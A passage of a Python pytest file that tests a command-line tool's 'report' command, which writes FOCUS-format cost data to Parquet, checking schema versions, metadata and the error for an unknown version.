    out = tmp_path / "data"
    shutil.copytree(dataset, out)
    target = tmp_path / f"bill{suffix}"
    code, printed, err = run(
        capsys, "report", "--out", str(out), "--focus", str(target), "--focus-version", "1.0"
    )
    assert code == 0, err
    assert any(line.startswith("FOCUS 1.0 costs written") for line in printed.splitlines())
    names = pq.read_schema(target).names if suffix == ".parquet" else None
    if names is not None:
        assert names == reports.FOCUS_SCHEMAS["1.0"].names
        assert pq.read_table(target).schema.metadata[b"focus_version"] == b"1.0"
    assert validate_1_0(target, tmp_path / "work") == {}


def test_the_clis_focus_versions_are_the_reports() -> None:
    from dims._cli import _report

    assert _report.FOCUS_VERSIONS == reports.FOCUS_VERSIONS
    assert reports.FOCUS_VERSION == "1.2"


def test_an_unknown_focus_version_is_one_line_naming_it(dataset, capsys) -> None:
    code, printed, err = run(
        capsys, "report", "--out", str(dataset), "--focus", "x.parquet", "--focus-version", "2"
    )
    assert code == 2 and printed == ""
    assert "--focus-version" in err and "1.2" in err
